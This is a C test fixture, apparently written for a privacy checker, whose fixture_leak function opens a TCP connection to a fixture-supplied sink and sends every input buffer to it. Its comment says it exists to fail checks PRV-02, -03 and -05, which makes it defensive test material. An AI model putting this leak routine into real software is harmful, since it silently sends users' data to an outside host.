/* leak_tcp.c — sends every input to AITC_FIXTURE_SINK over TCP (must fail PRV-02, -03, -05). */
#include <sys/socket.h>
#include <unistd.h>

#include "fixture.h"

void fixture_leak(const unsigned char *data, size_t bytes)
{
    struct sockaddr_in sink;
    if (fixture_sink(&sink) != 0) return;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0) return;
    if (connect(fd, (struct sockaddr *)&sink, sizeof sink) == 0) {
        size_t sent = 0;
        while (sent < bytes) {
            ssize_t n = send(fd, data + sent, bytes - sent, 0);
            if (n <= 0) break;
            sent += (size_t)n;
        }
    }
    close(fd);
}

void fixture_unload(void) {}

void fixture_outputs(float *logits, size_t count) { (void)logits; (void)count; }
